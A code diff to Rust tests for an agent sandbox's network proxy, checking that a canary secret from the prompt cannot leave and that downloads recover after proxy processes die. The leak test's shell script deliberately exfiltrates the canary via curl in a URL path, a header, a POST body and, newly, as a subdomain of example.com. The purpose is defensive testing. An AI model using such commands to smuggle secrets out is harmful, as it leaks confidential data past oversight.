@@ -175,17 +175,20 @@ fn text_of_the_prompt_that_must_not_leave_does_not_leave_a_jail() {
     let url = registry.url("/");
     let script = format!(
         "c=$(grep -o 'CANARY-[0-9a-f]*' | head -n 1); test -n \"$c\" || exit 1; \
+         l=$(echo $c | tr A-Z a-z); curl -s -o /dev/null https://$l.example.com/; \
          curl -sS {url}$c; curl -sS {url}x; curl -sS -H \"x: $c\" {url}x; curl -sS -d \"$c\" {url}x"
     );
     let engine = format!("[engine.leaky]\ncommand = [\"sh\", \"-c\", '''{script}''']\nformat = \"text\"\n");
     let host = registry.host(&format!(
         "{engine}[agent.leaky]\nengine = \"leaky\"\n[agent.leaky.network]\nmode = \"proxy\"\n\
-         allow = [\"{ADDRESS}:{} send\"]\n",
+         allow = [\"{ADDRESS}:{} send\", \"*.example.com:443\"]\n",
         registry.port
     ));
     let said = host.ctl(&["chat", "--agent", "leaky", "-m", "hello"]);
     let said = String::from_utf8_lossy(&said.stdout).into_owned();
     assert_eq!(said.matches("must not leave").count(), 3, "{said}\n{}", host.log());
+    // The refusal of the fourth names a host that holds the text, which is why the program throws it away.
+    assert_eq!(host.recorded("canary_leaked").len(), 4, "{said}\n{}", host.log());
     assert!(said.contains("here") && registry.asked() == ["GET /x"], "{said} {:?}", registry.asked());
 }
 
@@ -200,7 +203,14 @@ fn a_jail_without_a_way_out_has_no_proxy_and_no_variables_of_one() {
 
 // Holds P7-95.
 #[test]
-fn a_download_that_egress_s_death_cuts_fails_and_the_next_succeeds() {
+fn after_the_death_of_egress_or_dialer_in_a_download_the_next_succeeds() {
+    for (process, cuts) in [("egress", true), ("dialer", false)] {
+        dies_in_a_download(process, cuts);
+    }
+}
+
+/// Kills a process while a download runs; a connection that dialer has handed over outlives it.
+fn dies_in_a_download(process: &str, cuts: bool) {
     let registry = Registry::start();
     let host = registry.listed();
     let script = format!(
@@ -212,8 +222,9 @@ fn a_download_that_egress_s_death_cuts_fails_and_the_next_succeeds() {
         let ran = scope.spawn(|| run(&host, &[], &script));
         host.wait_for("the download", || registry.asked().iter().any(|line| line.ends_with("/slow")));
         thread::sleep(Duration::from_millis(300));
-        host.kill_and_wait("egress");
+        host.kill_and_wait(process);
         ran.join().unwrap()
     });
-    assert!(!output.contains("first 0") && output.ends_with("here\n"), "{output}\n{}", host.log());
+    assert_eq!(output.contains("first 0"), !cuts, "{process}: {output}\n{}", host.log());
+    assert!(output.ends_with("here\n"), "{process}: {output}\n{}", host.log());
 }
